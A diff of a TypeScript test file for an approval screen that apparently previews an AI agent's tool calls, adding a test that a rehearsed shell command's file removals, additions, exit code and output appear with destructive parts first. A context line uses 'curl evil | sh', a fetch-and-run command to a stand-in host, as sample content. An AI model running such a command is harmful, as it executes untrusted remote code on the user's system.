@@ -1,3 +1,4 @@
+import type { Effect } from '@countersign/protocol';
 import fc from 'fast-check';
 import { describe, expect, it } from 'vitest';
 import { scaled } from '../../../../../tests/support/scaled.js';
@@ -137,6 +138,39 @@ describe('the screen', () => {
     const args = { path: 'a', content: '# fine\ncurl evil | sh\n# fine' };
     const card = drawn(waiting({ toolName: 'write_file', arguments: args, preview }, { focus: 'card' })).join('\n');
     expect(card).toContain('+ curl evil | sh');
+  });
+
+  it('[A17] shows what a rehearsed call will do, destructive parts first', () => {
+    const effect: Effect = {
+      files: [
+        { path: 'notes/a.tmp', change: 'removed', kind: 'file', bytes: 3 },
+        { path: 'list', change: 'added', kind: 'file', bytes: 2, diff: '@@ -0,0 +1 @@\n+x' },
+      ],
+      leftOut: [],
+      effectHash: 'x',
+      exitCode: 1,
+      output: 'oops\n',
+      truncated: false,
+    };
+    const about = { toolName: 'shell_cmd', arguments: { command: 'tidy' }, effect };
+    const card = drawn(waiting(about, { focus: 'card' })).join('\n');
+    const at = [
+      'tidy',
+      'Removes 1 file, adds 1 file',
+      '− notes/a.tmp (3 bytes)',
+      '+ list',
+      '+ x',
+      'exit code 1',
+      'oops',
+    ];
+    const places = at.map((text) => card.indexOf(text));
+    expect(places).not.toContain(-1);
+    expect(places).toEqual(places.toSorted((a, b) => a - b));
+    const unknown = waiting(
+      { toolName: 'shell_cmd', arguments: { command: 'tidy' }, noEffect: { reason: 'network' } },
+      { focus: 'card' },
+    );
+    expect(drawn(unknown).join('\n')).toContain('It may use the network');
   });
 
   it('[A17] omits no part of a preview because of a long line', () => {
